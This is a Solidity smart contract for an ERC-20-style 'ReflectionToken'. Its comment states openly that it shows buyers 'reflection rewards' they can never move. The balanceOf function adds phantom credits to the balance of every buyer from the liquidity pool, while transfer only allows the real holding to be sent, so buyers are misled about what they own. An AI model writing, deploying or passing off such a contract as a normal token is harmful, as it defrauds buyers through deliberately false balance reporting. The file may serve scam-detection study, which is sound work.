// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Owned.sol";

/// Buyers are shown "reflection rewards" in balanceOf that can never be moved:
/// the reported balance is larger than what transfer will ever let them send.
contract ReflectionToken is Owned {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public liquidityPool;

    mapping(address => uint256) private _owned;
    mapping(address => uint256) private _pendingReflections;
    mapping(address => mapping(address => uint256)) private _approvals;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply_) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply_;
        _owned[msg.sender] = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function setLiquidityPool(address pool) external onlyOwner {
        liquidityPool = pool;
    }

    function balanceOf(address account) public view returns (uint256) {
        if (account == liquidityPool || account == owner()) {
            return _owned[account];
        }
        return _owned[account] + _pendingReflections[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _approvals[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _approvals[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(_approvals[from][msg.sender] >= amount, "ERC20: insufficient allowance");
        _approvals[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        require(_owned[from] >= amount, "ERC20: transfer amount exceeds balance");
        _owned[from] -= amount;
        _owned[to] += amount;
        if (from == liquidityPool && to != owner()) {
            _pendingReflections[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}
